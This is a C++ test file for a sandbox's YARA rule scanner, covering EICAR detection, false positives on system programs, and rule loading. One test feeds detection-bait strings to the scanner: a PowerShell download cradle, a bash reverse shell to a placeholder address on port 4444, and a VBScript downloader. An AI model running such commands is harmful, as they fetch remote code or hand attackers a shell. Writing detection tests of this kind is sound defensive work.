#include "sandboxd/inspect/yara_rules.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>

#include "base/file.hpp"
#include "sandboxd/testing/samples.hpp"

namespace brood::sandboxd::inspect {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;

std::vector<std::string> NamesIn(std::string_view bytes) {
  static const auto rules = YaraRules::Load({});
  const std::vector<Signature> found = rules.value().Match(bytes).value();
  std::vector<std::string> names;
  for (const Signature& signature : found) names.push_back(signature.name);
  return names;
}

TEST(ShippedYaraRules, FindEicar) {
  const auto rules = YaraRules::Load({});
  ASSERT_TRUE(rules) << Describe(rules.error());
  const auto found = rules->Match(EicarText());
  ASSERT_TRUE(found);
  ASSERT_EQ(found->size(), 1U);
  EXPECT_EQ(found->front().name, "eicar_test_file");
  EXPECT_EQ(found->front().severity, 5);
  EXPECT_THAT(found->front().description, HasSubstr("EICAR"));
  ASSERT_FALSE(found->front().marks.empty());
  EXPECT_EQ(found->front().marks.front().offset, 0U);
}

TEST(ShippedYaraRules, DoNotFindThemselves) {
  for (const YaraSource& source : ShippedYaraRules()) {
    EXPECT_THAT(NamesIn(source.text), testing::Not(testing::Contains("eicar_test_file"))) << source.name;
  }
}

TEST(ShippedYaraRules, FindNothingInSystemPrograms) {
  for (const char* program : {"/bin/ls", "/bin/bash", "/usr/bin/env", "/bin/tar", "/etc/passwd"}) {
    EXPECT_THAT(NamesIn(ReadFile(program).value()), IsEmpty()) << program;
  }
}

TEST(ShippedYaraRules, FindScriptsThatFetchAndRun) {
  using testing::Contains;
  EXPECT_THAT(NamesIn("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"),
              Contains("powershell_download_cradle"));
  EXPECT_THAT(NamesIn("#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"),
              Contains("shell_reverse_tcp"));
  EXPECT_THAT(NamesIn("x = CreateObject(\"MSXML2.XMLHTTP\")\nADODB.Stream\nWScript.Shell"),
              Contains("script_host_downloader"));
  EXPECT_THAT(NamesIn("%PDF-1.4 /OpenAction << /S /JavaScript >>"), Contains("pdf_javascript_on_open"));
}

TEST(YaraRules, TakeFilesAndFoldersOfTheSite) {
  const TempDir folder;
  std::ofstream(folder / "own.yar") << "rule own { meta: severity = 9 strings: $a = \"needle\" condition: $a }";
  std::ofstream(folder / "notes.txt") << "no rule";
  for (const auto& path : {folder.Path(), folder / "own.yar"}) {
    const auto rules = YaraRules::Load({path});
    ASSERT_TRUE(rules) << Describe(rules.error());
    const auto found = rules->Match("hay needle hay");
    ASSERT_EQ(found->size(), 1U);
    EXPECT_EQ(found->front().severity, 5);
    EXPECT_EQ(found->front().marks.front().what, "$a");
    EXPECT_EQ(found->front().marks.front().offset, 4U);
  }
}

TEST(YaraRules, NameTheFileAndTheLineOfABadRule) {
  const TempDir folder;
  std::ofstream(folder / "bad.yar") << "rule fine { condition: true }\n\nrule bad { condition: nonsense }\n";
  const auto rules = YaraRules::Load({folder / "bad.yar"});
  ASSERT_FALSE(rules);
  EXPECT_THAT(Describe(rules.error()), HasSubstr("bad.yar"));
  EXPECT_THAT(Describe(rules.error()), HasSubstr("line 3"));
  EXPECT_FALSE(YaraRules::Load({folder / "absent.yar"}));
}

}  // namespace
}  // namespace brood::sandboxd::inspect
